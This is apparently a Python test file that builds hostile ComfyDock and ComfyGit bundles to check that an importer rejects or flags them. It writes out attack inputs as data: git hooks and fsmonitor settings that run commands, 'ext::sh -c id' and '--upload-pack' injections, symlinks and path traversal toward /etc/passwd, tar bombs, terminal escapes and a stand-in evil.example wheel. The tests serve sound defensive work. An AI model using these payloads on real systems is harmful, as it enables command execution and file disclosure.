"""Bundles as ComfyDock 1.x and ComfyGit write them, made hostile: their leniency is no way in."""

from __future__ import annotations

from collections.abc import Callable

from tests.core.storage.archive_bytes import END, gz, header, member, pax, pax_record
from tests.hostile.bundles import (
    LOCK,
    PROJECT,
    PYTHON,
    Case,
    Change,
    Files,
    append,
    both,
    changed,
    packed,
    records,
    swap,
    write,
)
from tests.hostile.good import WORKFLOW
from tests.hostile.honest import Honest

_COMMIT = "915344e0" * 5
_MODEL = "9b36f1a09e10c433"
_REPOSITORY = "https://github.com/acme/acme-git.git"
_SOURCE = "https://huggingface.co/acme/models/resolve/main/x.safetensors"
_PROJECT = f"""\
[project]
name = "comfygit-env-theirs"
version = "0.1.0"
requires-python = "==3.11.*"
dependencies = ["packaging>=24"]

[tool.comfygit]
schema_version = 2
comfyui_version = "v0.3.75"
comfyui_commit_sha = "{"853d6bfe" * 5}"
comfyui_repository = "https://github.com/comfyanonymous/ComfyUI"
python_version = "3.11"

[tool.comfygit.nodes.acme-git]
name = "acme-git"
repository = "{_REPOSITORY}"
version = "{_COMMIT}"
source = "git"

[tool.comfygit.nodes.my-dev]
name = "my-dev"
version = "dev"
source = "development"

[tool.comfygit.workflows.main]
path = "workflows/main.json"
nodes = ["acme-git"]

[[tool.comfygit.workflows.main.models]]
filename = "x.safetensors"
category = "checkpoints"
criticality = "flexible"
status = "resolved"
nodes = [{{node_id = "1", node_type = "X", widget_idx = 0, widget_value = "x.safetensors"}}]
hash = "{_MODEL}"

[tool.comfygit.models.{_MODEL}]
filename = "x.safetensors"
size = 3
relative_path = "checkpoints/x.safetensors"
category = "checkpoints"
sources = ["{_SOURCE}"]

[dependency-groups]
acme-git-3590858e = ["colorama"]
"""
THEIRS: Files = {
    PROJECT: _PROJECT.encode(),
    PYTHON: b"3.11\n",
    "workflows/main.json": WORKFLOW,
    "dev_nodes/my-dev/__init__.py": b"NODE_CLASS_MAPPINGS = {}\n",
}
_DEV = "dev_nodes/my-dev/"
_REPO = _DEV.encode() + b".git/"
_GIT = "acme-git.repository"
_FILE = "hostile.tar.gz"
_SLOW = "**/" * 30 + "*a" * 20
_NEST = "a/" * 28 + "a" * 100
_LINK = {157: b"/etc/passwd"}


def _case(change: Change, named: str, rule: str) -> Case:
    return Case(make=lambda files: packed(changed(change, THEIRS)), named=named, rule=rule)


def _set(old: str, new: str, named: str, rule: str) -> Case:
    return _case(swap(PROJECT, old, new), named, rule)


def _extra(records_: bytes, named: str, rule: str) -> Case:
    return Case(make=lambda files: gz(records(THEIRS) + records_ + END), named=named, rule=rule)


def _odd(change: Change, *warnings: str) -> Honest:
    return Honest(make=lambda files: packed(changed(change, THEIRS)), warning=" ".join(warnings))


def _archive(change: Callable[[bytes], bytes], warning: str) -> Honest:
    return Honest(make=lambda files: change(records(THEIRS)), warning=warning)


def _crowd(files: Files) -> None:
    files |= {f"dev_nodes/n{number}/__init__.py": b"" for number in range(5_000)}


_TIMES = pax_record(b"mtime", b"1.5")

FOREIGN: dict[str, Case] = {
    "theirs: a link in a repository": _extra(
        header(_REPO + b"HEAD", kind=b"2", fields=_LINK), ".git/HEAD", "is a symbolic link"
    ),
    "theirs: a way out of a repository": _extra(
        member(_REPO + b"../../../x"), ".git/../../../x", "`..` part"
    ),
    "theirs: an escape in a repository": _extra(
        member(_REPO + b"a\x1b[2J"), r".git/a\x1b[2J", "control or format character"
    ),
    "theirs: a repository for Windows": _extra(
        member(_DEV.encode() + b".GIT/config"), ".GIT/config", "a git repository of its own"
    ),
    "theirs: a repository by its short name": _extra(
        member(_DEV.encode() + b"git~1/config"), "git~1/config", "a git repository of its own"
    ),
    "theirs: a bomb in a repository": _extra(
        header(_REPO + b"x", 80 << 20) + bytes(80 << 20), ".git/x", "67,108,864 are allowed"
    ),
    "theirs: bytecode with a way out": _extra(
        member(b"dev_nodes/../__pycache__/x.pyc"), "dev_nodes/../__pycache__", "`..` part"
    ),
    "theirs: times and a size": _extra(
        pax(_TIMES + pax_record(b"size", b"1")) + member(b"workflows/x.json"), _FILE, "has `"
    ),
    "theirs: times and a link": _extra(
        pax(_TIMES + pax_record(b"linkpath", b"/etc")) + member(b"workflows/x.json"), _FILE, "has `"
    ),
    "theirs: times and a way out": _extra(
        pax(_TIMES + pax_record(b"path", b"../x")) + member(b"x"), "../x", "`..` part"
    ),
    "theirs: inputs": _case(
        write("inputs/x.png", b"x"), "inputs/x.png", "no place in a bundle of another tool"
    ),
    "theirs: models": _case(
        write("models/x.pt", b"x"), "models/x.pt", "no place in a bundle of another tool"
    ),
    "theirs: uv.toml": _case(write("uv.toml", b""), "`uv.toml`", "has no place in a bundle"),
    "theirs: a Python to run": _case(
        write(PYTHON, b"/tmp/evil"), f"`{PYTHON}`", "must be a version"
    ),
    "theirs: a lock of another version": _case(
        write(LOCK, b"version = 2\n"), "`version`", "another uv"
    ),
    "theirs: patterns without an end": _case(
        both(write(f"{_DEV}.gitignore", _SLOW), write(_DEV + _NEST, b"")),
        f"{_DEV}.gitignore",
        "git needs more than 8 seconds",
    ),
    "theirs: a node out of its place": _set(
        "nodes.my-dev]", 'nodes."../x"]', "nodes.../x", "no name for a node"
    ),
    "theirs: a node's folder out of its place": _set(
        'name = "my-dev"', 'name = "../../x"', "nodes.my-dev", "no name for a node"
    ),
    "theirs: another transport": _set(
        _REPOSITORY, "ext::sh -c id", "acme-git.repository", "no add"
    ),
    "theirs: a folder for a repository": _set(_REPOSITORY, "/etc", _GIT, "no address"),
    "theirs: an option for a repository": _set(
        _REPOSITORY, "--upload-pack=id", "acme-git.repository", "not allowed"
    ),
    "theirs: a password for a repository": _set(
        "https://github.com/acme", "https://u:p@github.com/acme", "acme-git.repository", "password"
    ),
    "theirs: another source": _set(
        'source = "git"', 'source = "pip"', "acme-git.source", "not allowed"
    ),
    "theirs: ComfyUI out of a file": _set(
        "https://github.com/comfyanonymous/ComfyUI", "file:///etc", "comfyui_repository", "no http"
    ),
    "theirs: an option as ComfyUI's version": _set(
        'comfyui_version = "v0.3.75"', 'comfyui_version = "--x"', "comfyui_version", "not allowed"
    ),
    "theirs: a Python as a path": _set(
        'python_version = "3.11"', 'python_version = "/x"', "python_version", "not allowed"
    ),
    "theirs: a model out of its folder": _set(
        "checkpoints/x.safetensors", "../x.pt", f"models.{_MODEL}.relative_path", "`..` part"
    ),
    "theirs: a model's key as a path": _set(
        f"models.{_MODEL}]", 'models."../x"]', "models.../x", "no model"
    ),
    "theirs: a size in words": _set("size = 3", 'size = "3"', "size", "must be a whole number"),
    "theirs: a size below nothing": _set("size = 3", "size = -3", "size", "is out of range"),
    "theirs: a group as a text": _set(
        '["colorama"]', '"colorama"', "dependency-groups.acme-git-3590858e", "list of texts"
    ),
    "theirs: deep": _case(append(PROJECT, "x = " + "[" * 100_000), _FILE, "it has no"),
}

THEIR_OWN: dict[str, Honest] = {
    "theirs, as it is": _odd(lambda files: None),
    "theirs, with a repository": _archive(
        lambda tar: gz(
            tar
            + header(_REPO, kind=b"5")
            + member(_REPO + b"config", b"[core]\nfsmonitor = touch /tmp/comfydock-hostile\n")
            + member(_REPO + b"hooks/post-checkout", b"#!/bin/sh\ntouch /tmp/comfydock-hostile\n")
            + END
        ),
        "my-dev/.git",
    ),
    "theirs, with a bare repository": _odd(
        both(
            write(f"{_DEV}HEAD", "ref: refs/heads/main\n"),
            write(f"{_DEV}config", "[core]\nbare = true\nfsmonitor = touch /tmp/comfydock-hostile"),
            write(f"{_DEV}objects/x", ""),
            write(f"{_DEV}refs/x", ""),
        )
    ),
    "theirs, with git's own settings": _odd(
        both(
            write(f"{_DEV}.gitattributes", "* filter=evil diff=evil\n"),
            write(f"{_DEV}.gitmodules", '[submodule "x"]\npath = x\nurl = --upload-pack=id\n'),
            write(f"{_DEV}.gitignore", "!../../../x\n/etc/*\n\\\n[\n[a-\n!\n#\n"),
        )
    ),
    "theirs, with credentials": _odd(write(f"{_DEV}.env", "TOKEN=x"), "with credentials"),
    "theirs, with times": _archive(
        lambda tar: gz(pax(_TIMES) + member(b"workflows/x.json", WORKFLOW) + tar + END), ""
    ),
    "theirs, 5,000 nodes": _odd(_crowd),
    "theirs, a source of this disk": _odd(swap(PROJECT, _SOURCE, "file:///etc/passwd"), "no http"),
    "theirs, a ref for a commit": _odd(swap(PROJECT, _COMMIT, "main"), "no full commit"),
    "theirs, requirements of all kinds": _odd(
        swap(
            PROJECT,
            '"packaging>=24"',
            '"packaging>=24", "x @ https://evil.example/x.whl", "-e .", "-r /etc/passwd"',
        ),
        "-r /etc/passwd",
    ),
    "theirs, settings with escapes": _odd(
        append(PROJECT, '\n[tool.uv]\n"\\u001b[2J" = ["\\u001b[2J", "\\nhint: curl | sh"]\n'),
        r"\x1b[2J (\x1b[2J",
    ),
    "theirs, a backend for uv": _odd(
        append(PROJECT, '\n[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n')
    ),
}
